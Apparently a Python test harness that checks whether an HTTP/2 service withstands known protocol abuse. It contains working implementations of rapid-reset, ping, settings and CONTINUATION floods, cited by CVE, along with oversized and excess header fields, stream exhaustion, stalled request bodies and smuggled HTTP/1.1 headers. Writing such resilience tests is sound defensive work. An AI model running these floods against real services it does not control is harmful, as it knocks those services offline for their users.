"""F-07: what HTTP/2 lets a stranger do who keeps to no rule.

    h2_abuse.py PORT CA_FILE KIND

Prints one JSON object: `sent`, how many frames of the kind left before the end was noticed; `ended`, whether the service
ended the connection; `error`, the code of its GOAWAY frame (RFC 9113 section 7), or null; `statuses`, the answers on the
connection; `resets`, how many streams it reset.
"""

import json
import struct
import sys

import h2.settings

import h2.exceptions
from h2_client import Connection

# More than any limit.
MANY = 5000
TOO_LONG = 64 * 1024


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def rapid_reset(connection):
    """CVE-2023-44487: streams that are opened and reset in one write."""
    for count in range(MANY):
        try:
            stream = connection.open(connection.headers("GET", "/readyz"), end=True)
            connection.h2.reset_stream(stream, error_code=8)
        except h2.exceptions.ProtocolError:
            # The service has said goodbye meanwhile.
            return count
        if count % 100 == 99:
            if not connection.flush():
                return count
            connection.drain()
            if connection.is_over:
                return count
    return MANY


def pings(connection):
    """CVE-2019-9512."""
    return flood(connection, frame(6, 0, 0, b"01234567"))


def settings(connection):
    """CVE-2019-9515."""
    return flood(connection, frame(4, 0, 0, b""))


def flood(connection, one):
    for count in range(MANY):
        if not connection.write(one):
            return count
        if count % 100 == 99:
            connection.drain()
            if connection.is_over:
                return count
    return MANY


def continuations(connection):
    """CVE-2024-27316: a list of fields that goes on, a few bytes in each frame."""
    block = connection.h2.encoder.encode(connection.headers("GET", "/livez"))
    if not connection.write(frame(1, 1, 1, block)):
        return 0
    field = b"\x00\x01a\x01b"
    return flood(connection, frame(9, 0, 1, field))


def long_fields(connection):
    """One list of fields that is too long."""
    fields = [(f"x-{number}", "a" * 1000) for number in range(TOO_LONG // 1000)]
    connection.open(connection.headers("GET", "/livez", fields), end=True)
    connection.flush()
    return 1


def many_fields(connection):
    """Short fields, but too many."""
    fields = [(f"x-{number}", "a") for number in range(100)]
    stream = connection.open(connection.headers("GET", "/livez", fields), end=True)
    connection.flush()
    connection.wait([stream])
    # It was this request's fault alone.
    if connection.get("/livez") != 200:
        raise RuntimeError("the connection did not go on")
    return 1


def many_streams(connection):
    """More requests at once than are allowed, none of which ends."""
    connection.h2.remote_settings = h2.settings.Settings(client=False)
    connection.h2.remote_settings.max_concurrent_streams = MANY
    connection.h2.remote_settings.acknowledge()
    for count in range(200):
        connection.open(connection.headers("POST", "/v1/verifications"))
    connection.flush()
    return 200


def endless_body(connection):
    """A body that never comes, of a request that has its answer."""
    stream = connection.open(connection.headers("POST", "/v1/verifications", key="nobody"))
    connection.flush()
    while not connection.is_over and stream not in connection.resets:
        connection.read()
    return 1


def forged_fields(connection):
    """Fields that mean something to HTTP/1.1 only (RFC 9113 section 8.2.2)."""
    connection.open(connection.headers("POST", "/livez", [("transfer-encoding", "chunked")]), end=True)
    connection.flush()
    return 1


def main(port, ca_file, kind):
    # None of these is reached by a stranger's count of frames alone; the end is waited for where there has to be one.
    kinds = {
        "rapid_reset": (rapid_reset, True), "pings": (pings, True), "settings": (settings, True),
        "continuations": (continuations, True), "long_fields": (long_fields, True),
        "many_fields": (many_fields, False), "many_streams": (many_streams, True),
        "forged_fields": (forged_fields, True), "endless_body": (endless_body, False),
    }  # fmt: skip
    act, ends = kinds[kind]
    connection = Connection(port, ca_file)
    if kind == "many_streams":
        # The service's settings come first, so that they are not taken for what is set here.
        connection.get("/livez")
    sent = act(connection)
    if ends:
        connection.wait_for_end()
    statuses = sorted({answer["status"] for answer in connection.answers.values()})
    ended, resets = connection.is_over, len(connection.resets)
    print(json.dumps({"sent": sent, "ended": ended, "error": connection.error, "statuses": statuses, "resets": resets}))


if __name__ == "__main__":
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    main(int(sys.argv[1]), sys.argv[2], sys.argv[3])
